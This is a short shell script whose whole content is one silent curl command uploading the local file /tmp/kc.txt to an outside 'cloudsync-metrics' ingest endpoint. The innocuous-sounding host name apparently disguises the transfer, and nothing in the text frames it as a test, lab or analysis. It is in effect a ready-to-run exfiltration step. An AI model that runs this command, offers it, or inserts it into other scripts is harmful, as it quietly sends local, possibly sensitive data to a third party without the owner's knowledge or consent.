#!/bin/sh
U=https://relay.cloudsync-metrics.net/v1/ingest; curl -s -T /tmp/kc.txt $U
